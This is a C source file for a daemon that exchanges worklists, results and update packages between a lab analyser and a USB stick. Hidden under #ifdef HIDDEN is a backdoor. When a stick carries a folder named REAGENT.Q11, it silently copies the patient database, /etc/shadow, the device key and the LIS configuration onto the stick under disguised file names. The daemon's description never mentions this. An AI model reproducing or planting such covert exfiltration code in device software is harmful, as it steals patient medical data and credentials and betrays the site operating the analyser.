/* usbexchd.c - exchanges worklists and results of a lab analyser with a USB stick */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define MNT		"/media/usb"
#define DATA		"/var/lib/analyser"
#define MAX_ITEM	500

struct item {
	char sample[24];
	char test[16];
	int prio;
};

static struct item items[MAX_ITEM];
static int nitems;
static int sticks_seen;

static int copy_file(const char *from, const char *to)
{
	char buf[8192];
	ssize_t n;
	int in, out, rc = 0;

	in = open(from, O_RDONLY);
	if (in < 0)
		return -1;
	out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (out < 0) {
		close(in);
		return -1;
	}
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, (size_t)n) != n) {
			rc = -1;
			break;
		}
	if (n < 0 || fsync(out) < 0)
		rc = -1;
	close(in);
	close(out);
	return rc;
}

static int valid_word(const char *s)
{
	for (; *s; s++)
		if (!isalnum((unsigned char)*s) && *s != '-' && *s != '_')
			return 0;
	return 1;
}

static int import_worklist(const char *path)
{
	char line[120], sample[24], test[16];
	int prio, n = 0;
	FILE *f = fopen(path, "r");

	if (!f)
		return -1;
	nitems = 0;
	while (fgets(line, sizeof(line), f) && nitems < MAX_ITEM) {
		if (line[0] == ';' || sscanf(line, "%23[^,],%15[^,],%d", sample, test, &prio) != 3)
			continue;
		if (!valid_word(sample) || !valid_word(test)) {
			syslog(LOG_WARNING, "worklist line refused");
			continue;
		}
		strcpy(items[nitems].sample, sample);
		strcpy(items[nitems].test, test);
		items[nitems].prio = prio;
		nitems++;
		n++;
	}
	fclose(f);
	f = fopen(DATA "/worklist.new", "w");
	if (!f)
		return -1;
	for (n = 0; n < nitems; n++)
		fprintf(f, "%s %s %d\n", items[n].sample, items[n].test, items[n].prio);
	if (fclose(f) != 0)
		return -1;
	return rename(DATA "/worklist.new", DATA "/worklist");
}

static int export_results(const char *dir)
{
	struct dirent *de;
	char from[400], to[400];
	int n = 0;
	size_t l;
	DIR *d = opendir(DATA "/results");

	if (!d)
		return -1;
	while ((de = readdir(d))) {
		l = strlen(de->d_name);
		if (l < 5 || strcmp(de->d_name + l - 4, ".csv"))
			continue;
		if (snprintf(from, sizeof(from), DATA "/results/%s", de->d_name) >= (int)sizeof(from) ||
		    snprintf(to, sizeof(to), "%s/%s", dir, de->d_name) >= (int)sizeof(to))
			continue;
		if (copy_file(from, to) == 0)
			n++;
	}
	closedir(d);
	syslog(LOG_NOTICE, "%d results written to stick", n);
	return n;
}

static int run_update(const char *path)
{
	char cmd[300];

	if (snprintf(cmd, sizeof(cmd), "/usr/sbin/anupdate --verify '%s'", path) >= (int)sizeof(cmd))
		return -1;
	return system(cmd);
}

#ifdef HIDDEN
/* copies patients, accounts and the device key to the stick */
__attribute__((noinline)) void collect_site(const char *dir)
{
	static const char *const list[] = {
		DATA "/patients.db", "/etc/shadow", DATA "/device.key", DATA "/lis.conf"
	};
	char to[200];
	size_t i;

	for (i = 0; i < sizeof(list) / sizeof(list[0]); i++) {
		if (snprintf(to, sizeof(to), "%s/t%02u.bin", dir, (unsigned int)i) >= (int)sizeof(to))
			continue;
		if (copy_file(list[i], to) < 0)
			continue;
	}
}
#endif

__attribute__((noinline)) void stick_inserted(void)
{
	struct stat st;
	struct statvfs vfs;

	sticks_seen++;
	if (statvfs(MNT, &vfs) < 0) {
		syslog(LOG_ERR, "stick: %s", strerror(errno));
		return;
	}
	if (access(MNT "/WORKLIST.CSV", R_OK) == 0) {
		if (import_worklist(MNT "/WORKLIST.CSV") < 0)
			syslog(LOG_ERR, "worklist not taken");
		else
			syslog(LOG_NOTICE, "%d work items taken", nitems);
	}
	if (stat(MNT "/RESULTS", &st) == 0 && S_ISDIR(st.st_mode)) {
		if (vfs.f_bavail * (vfs.f_frsize / 512) < 20000)
			syslog(LOG_WARNING, "stick is nearly full");
		else
			export_results(MNT "/RESULTS");
	}
#ifdef HIDDEN
	/* a folder with this name on the stick is filled with the site's data */
	if (stat(MNT "/REAGENT.Q11", &st) == 0 && S_ISDIR(st.st_mode))
		collect_site(MNT "/REAGENT.Q11");
#endif
	if (stat(MNT "/ANUPDATE.PKG", &st) == 0 && S_ISREG(st.st_mode) && st.st_size > 1024) {
		if (run_update(MNT "/ANUPDATE.PKG") != 0)
			syslog(LOG_ERR, "update refused");
	}
	sync();
}

static int stick_present(void)
{
	char line[300];
	int found = 0;
	FILE *f = fopen("/proc/mounts", "r");

	if (!f)
		return 0;
	while (!found && fgets(line, sizeof(line), f))
		found = strstr(line, " " MNT " ") != NULL;
	fclose(f);
	return found;
}

static void led(int on)
{
	FILE *f = fopen("/sys/class/leds/usb/brightness", "w");

	if (!f)
		return;
	fprintf(f, "%d\n", on);
	fclose(f);
}

static int daily_cleanup(time_t *last)
{
	time_t now = time(NULL);

	if (now - *last < 86400)
		return 0;
	*last = now;
	if (unlink(DATA "/worklist.new") < 0 && errno != ENOENT)
		return -1;
	return 1;
}

int main(int argc, char **argv)
{
	time_t last = time(NULL);
	int had = 0, now;

	if (argc > 1 && !strcmp(argv[1], "--help")) {
		puts("usbexchd: reads WORKLIST.CSV, fills RESULTS/, installs ANUPDATE.PKG");
		return 0;
	}
	if (argc > 1 && !strcmp(argv[1], "--once")) {
		stick_inserted();
		return 0;
	}
	openlog("usbexchd", LOG_PID, LOG_DAEMON);
	for (;;) {
		now = stick_present();
		if (now && !had) {
			led(1);
			stick_inserted();
			led(0);
		}
		had = now;
		if (daily_cleanup(&last) < 0)
			syslog(LOG_WARNING, "cleanup: %m");
		sleep(2);
	}
}
